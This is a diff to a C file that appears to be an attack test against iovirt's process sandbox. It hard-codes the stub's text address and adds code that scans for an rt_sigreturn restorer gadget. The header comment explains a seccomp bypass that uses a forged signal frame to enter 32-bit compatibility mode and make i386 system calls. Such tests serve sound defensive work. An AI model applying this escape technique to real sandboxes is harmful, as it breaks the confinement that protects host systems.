@@ -7,7 +7,7 @@
  *   - rt_sigreturn with a forged frame whose CS is 0x23.  The seccomp
  *     filter allows rt_sigreturn only from the stub's text, but the stub's
  *     restorer (`mov $15, %eax; syscall`) is mapped in the guest's address
- *     space (at PROC_STUB_TEXT_VA), so a guest can jump there with RSP at a
+ *     space (at ATTACK_STUB_TEXT_VA), so a guest can jump there with RSP at a
  *     frame of its own making.
  * Then, in compatibility mode, an i386 system call by `int 0x80`,
  * `syscall` or `sysenter` (EAX = number, EBX, ECX = arguments).  Should
@@ -28,7 +28,10 @@
 
 #include <stdint.h>
 
-#include "vcpu/proc/proc_mailbox.h"
+/* Where iovirt's process backend links its stub (vcpu/proc/proc_mailbox.h,
+ * PROC_STUB_TEXT_VA): an attacker reads it from the source, so the attack
+ * hard-codes it rather than include the backend's private protocol. */
+#define ATTACK_STUB_TEXT_VA 0x7e0000000000ull
 
 #define COMPAT32_USER32_CS 0x23   /* Linux __USER32_CS */
 #define COMPAT32_USER_DS   0x2b   /* Linux __USER_DS */
@@ -142,13 +145,13 @@ __asm__(".data\n"
 static inline uint64_t compat32__find_restorer(void)
 {
     static const uint8_t pat[] = {0xB8, 0x0F, 0x00, 0x00, 0x00, 0x0F, 0x05};
-    const volatile uint8_t *p = (const volatile uint8_t *)PROC_STUB_TEXT_VA;
+    const volatile uint8_t *p = (const volatile uint8_t *)ATTACK_STUB_TEXT_VA;
     for (uint64_t i = 0; i + sizeof pat <= 0x3000; i++) {
         unsigned k = 0;
         while (k < sizeof pat && p[i + k] == pat[k])
             k++;
         if (k == sizeof pat)
-            return PROC_STUB_TEXT_VA + i;
+            return ATTACK_STUB_TEXT_VA + i;
     }
     return 0;
 }
